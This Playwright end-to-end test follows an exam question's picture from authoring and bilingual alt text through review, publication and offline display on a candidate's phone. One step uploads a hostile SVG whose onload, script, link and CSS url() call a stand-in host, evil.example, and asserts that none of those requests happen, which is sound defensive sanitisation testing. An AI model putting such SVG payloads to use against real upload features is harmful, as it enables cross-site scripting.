import { expect, type Page, test } from '@playwright/test';
import { givenPicturePng } from '../../apps/server/test/given/bank.ts';
import { look } from '../help/look.ts';
import { playerOf } from '../help/player.ts';
import { enterLobby, start } from '../help/practice.ts';
import { publishForm } from '../help/publish-form.ts';
import { offerRoom, openAsAuthorAndAdmin } from '../help/room.ts';
import { wcagFindings } from '../help/screen-checks.ts';
import { wordsOf } from '../help/words.ts';

/** Returns whether the picture with this alternative text was loaded. */
const isLoaded = (page: Page, alt: string) =>
  page
    .getByRole('img', { name: alt, exact: true })
    .first()
    .evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 1 && img.src !== '');

test('a picture goes from the editor through review and publication to a candidate without a network @desk', async ({
  page,
  browser,
}) => {
  const { chief, say } = await openAsAuthorAndAdmin(page, browser, '/staff/bank/new');
  const field = (label: string, language: 'English' | 'Hindi') =>
    page.getByLabel(say(`{label} (${language})`, { label }), { exact: true });
  const dialog = page.getByRole('dialog');
  const alt = (language: 'English' | 'Hindi') => dialog.getByLabel(say(`What the picture shows (${language})`));
  const png = async (seed: number) => ({
    name: 'ramp.png',
    mimeType: 'image/png',
    buffer: await givenPicturePng(seed, { width: 640, height: 360 }),
  });
  const preview = page.getByRole('region', { name: say('Preview') });
  const missing = say('Describe each picture in this language, for people who cannot see it');
  const save = page.getByRole('button', { name: say('Save the draft') });

  await test.step('a picture needs a description in each language of the text, and a file that is a picture', async () => {
    await page.getByLabel(say('Topic'), { exact: true }).fill('Ramps');
    await field(say('Question'), 'English').fill('How steep is the ramp?');
    await field(say('Question'), 'Hindi').fill('ढलान कितनी है?');
    await page
      .getByRole('button', { name: say('Insert a picture: {label}', { label: say('Question') }) })
      .press('Enter');
    await dialog.getByRole('button', { name: say('Insert'), exact: true }).press('Enter');
    await expect(dialog.getByText(say('Choose a file.'))).toBeVisible();
    await expect(dialog.getByText(say('Describe what the picture shows.'))).toHaveCount(2);
    await alt('English').fill('A ramp of 30 degrees');
    await alt('Hindi').fill('30 अंश की ढलान');
    const text = { name: 'ramp.png', mimeType: 'image/png', buffer: Buffer.from('not a picture') };
    await dialog.locator('input[type=file]').setInputFiles(text);
    await alt('Hindi').press('Enter');
    await expect(dialog.locator('input[type=file]')).toHaveAttribute('aria-invalid', 'true');
    expect(await wcagFindings(page)).toEqual([]);
    await look(page, 'staff-item-picture-dialog');
    await dialog.locator('input[type=file]').setInputFiles(await png(Date.now()));
    await alt('Hindi').press('Enter');
    await expect(dialog).toHaveCount(0);
    await expect(field(say('Question'), 'English')).toHaveText(/^How steep.*!\[A ramp of 30 degrees\]\(picture:/s);
  });

  await test.step('an option gets its own picture, and loses it again', async () => {
    const label = say('Option {no}', { no: 1 });
    await page.getByRole('button', { name: say('Insert a picture: {label}', { label }) }).press('Enter');
    const hostile = `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60" onload="fetch('//evil.example')">
      <script href="https://evil.example/a.js">document.title = 'evil'; fetch('https://evil.example')</script>
      <a href="https://evil.example"><rect width="90" height="60" style="fill: red; background: url(//evil.example)"/></a></svg>`;
    const svg = { name: 'road.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(hostile) };
    const asked: string[] = [];
    page.context().on('request', (request) => asked.push(request.url()));
    await dialog.locator('input[type=file]').setInputFiles(svg);
    await alt('English').fill('A flat road');
    await alt('English').press('Enter');
    await expect(dialog).toHaveCount(0);
    await expect(field(label, 'English')).toHaveText(/^!\[A flat road\]/);
    await expect.poll(() => isLoaded(page, 'A flat road')).toBe(true);
    const [, pictureId] = /picture:([^)]*)/.exec((await field(label, 'English').textContent()) ?? '') ?? [];
    const opened = await page.context().newPage();
    await opened.goto(`/api/v1/bank/pictures/${pictureId}`);
    expect(await opened.evaluate(() => [document.title, document.querySelectorAll('rect').length])).toEqual(['', 1]);
    await opened.close();
    expect(asked.filter((address) => address.includes('evil'))).toEqual([]);
    expect(asked.filter((address) => address.includes(`${pictureId}`)).length).toBeGreaterThan(0);
    await page.getByRole('button', { name: say('Remove: {label}', { label: 'A flat road' }) }).press('Enter');
    await expect(field(label, 'English')).toHaveText('');
  });

  await test.step('a missing description is told at its field, and the picture is replaced with one', async () => {
    for (const [no, [en, hi]] of [
      ['Steep', 'खड़ी'],
      ['Flat', 'समतल'],
    ].entries()) {
      await field(say('Option {no}', { no: no + 1 }), 'English').fill(en ?? '');
      await field(say('Option {no}', { no: no + 1 }), 'Hindi').fill(hi ?? '');
    }
    for (const no of [4, 3]) {
      const label = say('Option {no}', { no });
      await page.getByRole('button', { name: say('Remove: {label}', { label }) }).press('Enter');
    }
    await page.getByRole('radio', { name: say('Option {no} is right', { no: 1 }) }).check();
    await field(say('Explanation'), 'English').fill('Look at it.');
    await field(say('Explanation'), 'Hindi').fill('इसे देखिए।');
    const hindi = field(say('Question'), 'Hindi');
    await hindi.fill(((await hindi.textContent()) ?? '').replace('30 अंश की ढलान', ''));
    await page.getByRole('button', { name: say('Save as a new draft') }).press('Enter');
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(/^Q-\d{5}$/);
    await expect(page.getByText(missing)).toHaveCount(1);
    await expect.poll(() => isLoaded(page, 'A ramp of 30 degrees')).toBe(true);
    await page.getByRole('button', { name: say('Change: {label}', { label: 'A ramp of 30 degrees' }) }).press('Enter');
    await dialog.locator('input[type=file]').setInputFiles(await png(Date.now()));
    await alt('English').fill('A ramp of 40 degrees');
    await alt('Hindi').fill('40 अंश की ढलान');
    await alt('Hindi').press('Enter');
    await expect(dialog).toHaveCount(0);
    await save.press('Enter');
    await expect.poll(() => isLoaded(page, 'A ramp of 40 degrees')).toBe(true);
    await expect(preview.getByRole('img', { name: 'A ramp of 40 degrees' })).toBeVisible();
    await expect(page.getByText(missing)).toHaveCount(0);
    expect(await wcagFindings(page)).toEqual([]);
    await look(page, 'staff-item-pictures');
  });

  const itemPath = new URL(page.url()).pathname;
  const formId = await test.step('another person sees the picture, and approves the question', async () => {
    const submit = page.getByRole('button', { name: say('Submit for review') });
    await expect(submit).not.toHaveAttribute('aria-disabled', 'true');
    await submit.press('Enter');
    await expect(page.getByRole('button', { name: say('Approve') })).toBeVisible();
    await chief.goto(itemPath);
    await expect.poll(() => isLoaded(chief, 'A ramp of 40 degrees')).toBe(true);
    const chiefSay = await wordsOf(chief);
    await chief.getByRole('button', { name: chiefSay('Approve') }).press('Enter');
    await expect(chief.getByRole('button', { name: chiefSay('Change it in a new version') })).toBeVisible();
    return await publishForm(page.request, chief.request, itemPath.split('/').at(-1) ?? '');
  });

  await test.step('a candidate has it before the start, and sees it without a network, after a reload too', async () => {
    const { candidates } = await offerRoom({ mode: 'none', startsInSeconds: 0, names: ['Asha Rao'], formId });
    const context = await browser.newContext({ viewport: { width: 360, height: 740 } });
    const phone = await context.newPage();
    const isBrought = phone.waitForResponse((answer) => answer.url().endsWith('/pictures/0'));
    const phoneSay = await enterLobby(phone, candidates[0]);
    expect((await isBrought).status()).toBe(200);
    const player = playerOf(phone, phoneSay);
    await start(phone, phoneSay, player);
    await phone.evaluate(async () => (await navigator.serviceWorker.ready).active?.state);
    await context.setOffline(true);
    await phone.reload();
    await expect(player.heading).toBeVisible();
    const shown = phone.getByRole('img', { name: 'A ramp of 40 degrees' });
    await expect(shown).toHaveAttribute('src', /^blob:/);
    await expect.poll(() => isLoaded(phone, 'A ramp of 40 degrees')).toBe(true);
    expect(await wcagFindings(phone)).toEqual([]);
    await look(phone, 'player-picture');
    await context.close();
  });
});
